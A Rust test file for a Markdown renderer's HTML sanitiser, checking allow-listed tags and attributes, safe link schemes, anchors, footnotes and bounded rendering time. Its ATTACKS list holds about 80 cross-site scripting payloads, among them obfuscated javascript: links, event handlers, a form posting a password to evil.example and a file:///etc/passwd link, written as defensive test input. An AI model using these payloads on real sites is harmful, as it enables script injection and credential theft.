//! Checks the output as a browser would parse it: element by element, attribute by attribute.

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

/// An element of the output, with its attributes as written.
#[derive(Debug)]
struct Element {
    name: String,
    attributes: Vec<(String, String)>,
}

/// The opening tags of sanitised HTML. The serialiser escapes `<` in text and `"` in attributes, so a plain scan sees them all.
fn elements(html: &str) -> Vec<Element> {
    let mut found = Vec::new();
    for piece in html.split('<').skip(1) {
        let Some((tag, _)) = split_tag(piece) else { panic!("an open tag without end: {piece}") };
        if tag.starts_with('/') {
            continue;
        }
        let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
        let mut attributes = Vec::new();
        while let Some((key, value)) = rest.trim_start().split_once("=\"") {
            let (value, after) = value.split_once('"').expect("a closed attribute");
            attributes.push((key.to_owned(), value.to_owned()));
            rest = after;
        }
        assert_eq!(rest.trim(), "", "leftovers in <{tag}>");
        found.push(Element { name: name.to_owned(), attributes });
    }
    found
}

fn split_tag(piece: &str) -> Option<(&str, &str)> {
    let mut quoted = false;
    let end = piece.find(|c| {
        quoted ^= c == '"';
        c == '>' && !quoted
    })?;
    Some((&piece[..end], &piece[end + 1..]))
}

const TAGS: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "div",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];
const ATTRIBUTES: &[&str] = &[
    "alt",
    "aria-labelledby",
    "class",
    "height",
    "href",
    "id",
    "rel",
    "role",
    "scope",
    "src",
    "start",
    "tabindex",
    "title",
    "width",
];

fn assert_harmless(source: &str) {
    let html = render(source).html;
    for element in elements(&html) {
        assert!(TAGS.contains(&element.name.as_str()), "<{}> from {source:?}: {html}", element.name);
        for (key, value) in &element.attributes {
            assert!(ATTRIBUTES.contains(&key.as_str()), "{key} from {source:?}: {html}");
            match key.as_str() {
                "href" => assert_harmless_link(value, source),
                "src" => assert!(is_drawing(value), "{value} from {source:?}"),
                "id" => assert!(value.starts_with('s') || value.starts_with("note"), "id {value} from {source:?}"),
                _ => {}
            }
        }
        if element.name == "a" && element.attributes.iter().any(|(key, _)| key == "href") {
            let rel = element.attributes.iter().find(|(key, _)| key == "rel");
            assert_eq!(rel.map(|(_, value)| value.as_str()), Some("external noopener nofollow"), "{source:?}");
        }
    }
    assert_eq!(POLICY.clean(&html).to_string(), html, "cleaning again changes nothing: {source:?}");
}

/// Parses as a browser does: entities decoded, white space and control characters dropped, case ignored.
fn assert_harmless_link(href: &str, source: &str) {
    let read: String = href
        .replace("&amp;", "&")
        .replace("&quot;", "\"")
        .chars()
        .filter(|c| !c.is_control() && !c.is_whitespace())
        .flat_map(char::to_lowercase)
        .collect();
    let scheme = read.split(['/', '?', '#']).next().and_then(|start| start.split_once(':')).map(|(scheme, _)| scheme);
    assert!(scheme.is_none_or(|scheme| ["http", "https", "mailto", "tel"].contains(&scheme)), "{href} from {source:?}");
}

const ATTACKS: &[&str] = &[
    // Script, plain and obfuscated.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script>alert(1)</script> text",
    "<<script>script>alert(1)<</script>/script>",
    "<script\u{0}>alert(1)</script>",
    "<script/x>alert(1)</script >",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "a[^1]\n\n[^1]: <script>alert(1)</script>",
    "a[^<script>]\n\n[^<script>]: b",
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<p onclick=\"alert(1)\">x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<div onmouseover='alert(1)' style='position:fixed;inset:0'>x</div>",
    "[x](https://a.example \"onmouseover=alert(1)\")",
    "[x](https://a.example '\" onmouseover=\"alert(1)')",
    "[x](https://a.example/\"onmouseover=alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    // Links with executable schemes.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<\u{0}javascript:alert(1)>)",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://a.example/?\"onclick=alert(1)>",
    // Images and frames.
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](/pictures/../library/x.svg)",
    "![x](/pictures/phone.svg?who=me)",
    "![x](//evil.example/pictures/phone.svg)",
    "![x](https://evil.example/pictures/phone.svg)",
    "![x](/pictures/%2e%2e/x.svg)",
    "![x](/pictures//evil.example/x.svg)",
    "![x](\\/pictures/phone.svg)",
    "![\" onerror=\"alert(1)](/pictures/phone.svg \"\" onload=\"alert(1)\")",
    "![<script>alert(1)</script>](/pictures/phone.svg)",
    "<img src=/pictures/phone.svg onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    // Foreign content and styles.
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    // Malformed nesting and comments.
    "<b><i></b></i><div></p></div></div></div>",
    "</div></main></body></html><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<a href=\"x\" <b>y",
    "**bold <i>*both** </i>*",
    "- a\n  > b\n    1. <table><tr><td>c",
    // Names that a page's script might look up.
    "# getElementById\n\n## __proto__\n\n<a id=location name=body>x</a>",
    "[x](//evil.example \"t\"){#id .class onclick=alert(1)}",
    "# x {#csrf .c onclick=alert(1)}",
];

#[test]
fn attacks_come_out_harmless() {
    assert!(ATTACKS.len() >= 40);
    for attack in ATTACKS {
        assert_harmless(attack);
    }
}

#[test]
fn raw_html_is_shown_as_typed() {
    let html = render("a <b>c</b>\n\n<script>alert(1)</script>").html;
    assert!(html.contains("&lt;b&gt;c&lt;/b&gt;"), "{html}");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{html}");
}

#[test]
fn a_guide_picture_is_shown_with_its_description_and_size() {
    let html = render("![Biểu tượng `Chia sẻ` & “mũi tên”](/pictures/ios-share.svg)").html;
    let [_, picture] = &elements(&html)[..] else { panic!("{html}") };
    let attribute = |name: &str| picture.attributes.iter().find(|(key, _)| key == name).map(|(_, value)| value.as_str());
    assert_eq!(picture.name, "img");
    assert_eq!(attribute("src"), Some("/pictures/ios-share.svg"));
    assert_eq!(attribute("alt"), Some("Biểu tượng Chia sẻ &amp; “mũi tên”"));
    assert_eq!((attribute("width"), attribute("height")), (Some("320"), Some("220")));
}

#[test]
fn an_external_picture_is_replaced_by_its_description() {
    for address in ["https://tracker.example/pixel.gif", "/pictures/x.png", "/library/x.svg", "/pictures/.svg", "x.svg"] {
        let html = render(&format!("trước ![mô tả]({address}) sau")).html;
        assert_eq!(html.trim(), "<p>trước mô tả sau</p>", "{address}");
    }
}

#[test]
fn deep_nesting_takes_bounded_time() {
    let deep: [String; 8] = [
        ">".repeat(10_000) + "x",
        "> ".repeat(10_000) + "x",
        "- ".repeat(10_000) + "x",
        "*".repeat(10_000) + "x" + &"*".repeat(10_000),
        "*a ".repeat(10_000),
        "[".repeat(10_000) + &"](x)".repeat(10_000),
        "<div>".repeat(10_000),
        "`".repeat(20_000) + "x",
    ];
    for source in &deep {
        let started = Instant::now();
        assert_harmless(source);
        assert!(started.elapsed() < Duration::from_secs(5), "{:?} for {}…", started.elapsed(), &source[..10]);
    }
}

#[test]
fn the_highest_heading_is_the_second_and_anchors_are_unique() {
    for source in ["# Mục đích\n\n## Yêu cầu\n\n# Mục đích", "## Mục đích\n\n### Yêu cầu\n\n## Mục đích"] {
        let rendered = render(source);
        let found: Vec<_> = rendered.contents.iter().map(|heading| (heading.anchor.as_str(), heading.level)).collect();
        assert_eq!(found, [("s-muc-dich", 2), ("s-yeu-cau", 3), ("s-muc-dich-2", 2)]);
        for (anchor, level) in found {
            assert!(rendered.html.contains(&format!("<h{level} id=\"{anchor}\">")), "{}", rendered.html);
        }
    }
}

#[test]
fn anchors_of_equal_headings_are_numbered_without_collisions() {
    let rendered = render("# X\n\n# X\n\n# X 2\n\n# X\n\n# X 2\n\n# X 2 2\n\n# X 4\n\n# X");
    let found: Vec<_> = rendered.contents.iter().map(|heading| heading.anchor.as_str()).collect();
    assert_eq!(found, ["s-x", "s-x-2", "s-x-2-2", "s-x-3", "s-x-2-3", "s-x-2-2-2", "s-x-4", "s-x-5"]);
}

#[test]
fn a_text_of_headings_only_takes_bounded_time() {
    let started = Instant::now();
    let anchors: HashSet<_> = render(&"#\n".repeat(50_000)).contents.into_iter().map(|heading| heading.anchor).collect();
    assert_eq!(anchors.len(), 50_000);
    assert!(started.elapsed() < Duration::from_secs(30), "{:?}", started.elapsed());
}

#[test]
fn a_heading_with_emphasis_and_code_has_a_plain_title() {
    let rendered = render("## Về **số hóa** và `mã`");
    assert_eq!(rendered.contents[0].title, "Về số hóa và mã");
    assert_eq!(rendered.contents[0].anchor, "s-ve-so-hoa-va-ma");
}

/// The browser check in `end2end/journeys/changed_pages.mjs` passes this markup through the policy of `scripts/start.js`.
#[test]
fn what_looks_like_a_script_stays_text() {
    let html = render("[trang](https://example.org \"javascript: giới thiệu\")\n\n## javascript:alert(1)").html;
    for part in ["title=\"javascript: giới thiệu\"", "<h2 id=\"s-javascript-alert-1\">javascript:alert(1)</h2>"] {
        assert!(html.contains(part), "{part} in {html}");
    }
}

#[test]
fn a_table_scrolls_and_has_headers_and_alignment() {
    let html = render("## Chỉ tiêu\n\n| Tên | Số |\n|---|--:|\n| a | 1 |").html;
    assert!(html.contains("aria-labelledby=\"s-chi-tieu\""), "{html}");
    for part in
        ["class=\"table-scroll\"", "tabindex=\"0\"", "role=\"region\"", "scope=\"col\"", "<td class=\"align-right\">1</td>"]
    {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert!(!html.contains("style="), "{html}");
}

#[test]
fn links_footnotes_and_lists_work() {
    let html = render("[a](https://a.example) [b](tel:113)[^1]\n\n3. c\n4. d\n\n~~e~~\n\n[^1]: f").html;
    assert!(html.contains("href=\"https://a.example\""), "{html}");
    assert!(html.contains("href=\"tel:113\""), "{html}");
    assert!(html.contains("href=\"#note-1\"") && html.contains("id=\"note-1\""), "{html}");
    assert!(html.contains("<ol start=\"3\">") && html.contains("<del>e</del>"), "{html}");
}

#[test]
fn footnotes_are_numbered_in_order_of_reference_and_link_back() {
    let html = render("a[^sau] b[^trước] c[^sau]\n\n[^trước]: hai[^ba]\n\n[^sau]: một\n\n[^ba]: ba\n\n[^không ai]: lạc").html;
    let calls: Vec<_> = html.match_indices("<sup").map(|(at, _)| &html[at..at + 80]).collect();
    for (call, expected) in calls.iter().zip(["id=\"noteref-1\"", "id=\"noteref-2\"", "id=\"noteref-1-2\"", "id=\"noteref-3\""]) {
        assert!(call.contains(expected), "{expected} in {call}");
    }
    let list = &html[html.find("<ol class=\"footnotes\">").expect("the list of notes")..];
    let notes: Vec<_> = list.match_indices("<li").map(|(at, _)| &list[at..]).collect();
    assert_eq!(notes.len(), 3, "{html}");
    for (note, (id, text, back)) in
        notes.iter().zip([("note-1", "một", "#noteref-1-2"), ("note-2", "hai", "#noteref-2"), ("note-3", "ba", "#noteref-3")])
    {
        assert!(
            note.starts_with(&format!("<li id=\"{id}\">")) && note.contains(&format!("<p>{text}")) && note.contains(back),
            "{note}"
        );
    }
}

#[test]
fn a_reference_without_a_note_is_text_and_the_first_of_equal_notes_is_used() {
    let html = render("a[^thiếu] b[^có]\n\n[^có]: ghi chú\n\n[^có]: lần hai").html;
    assert!(html.contains("[^thiếu]") && html.contains("ghi chú") && !html.contains("note-2"), "{html}");
}

#[test]
fn ids_of_footnotes_are_numbers_whatever_their_names() {
    let html = render("a[^\" onclick=\"alert(1)] b[^__proto__]\n\n[^\" onclick=\"alert(1)]: c\n\n[^__proto__]: d").html;
    for element in elements(&html) {
        for (key, value) in element.attributes.iter().filter(|(key, _)| key == "id") {
            let number = value.strip_prefix("note-").or(value.strip_prefix("noteref-")).expect("an id of a note");
            assert!(number.bytes().all(|byte| byte.is_ascii_digit() || byte == b'-'), "{key}={value}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn no_text_comes_out_harmful(source in "[-<>\"'`*_#|\\[\\](){}!&;:=/ \na-z0-9]{0,120}") {
        assert_harmless(&source);
    }

    #[test]
    fn no_mixture_of_attacks_comes_out_harmful(picks in proptest::collection::vec(0..ATTACKS.len(), 1..6), glue in "[ \n>|*]{0,2}") {
        let parts: Vec<_> = picks.into_iter().map(|at| ATTACKS[at]).collect();
        assert_harmless(&parts.join(&glue));
    }
}
